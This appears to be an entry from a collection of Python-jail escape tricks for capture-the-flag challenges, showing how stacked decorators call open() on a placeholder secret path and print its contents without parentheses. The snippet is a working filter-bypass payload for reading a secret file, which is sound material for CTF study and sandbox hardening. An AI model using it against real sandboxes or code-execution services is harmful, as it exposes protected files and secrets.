# technique: decorators call open with the result of the one below
# goal: read-secret
# source: CTF jails without parentheses (ImaginaryCTF "decorated")
def path(_):
    return '@SECRET@'


@print
@list
@open
@path
class Unused:
    pass
